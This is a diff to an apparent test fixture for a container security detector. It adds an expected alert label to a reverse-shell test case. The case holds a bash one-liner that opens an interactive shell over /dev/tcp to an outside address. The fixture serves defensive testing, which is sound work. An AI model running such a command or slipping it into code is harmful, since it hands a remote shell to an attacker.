@@ -47,7 +47,11 @@ export const reverseShells: readonly Attack[] = [
       ...ownNetwork,
       ...['--env', 'LINE=bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'],
     ),
-    expected: ['Shell told to connect', 'Shell on a network connection'],
+    expected: [
+      'Shell told to connect',
+      'Shell on a network connection',
+      'Internet reached by hand from a container',
+    ],
     by: 'bash -c bash -i',
     twin: { command: ['bash', '-c', '</dev/tcp/127.0.0.1/8080'] },
   },
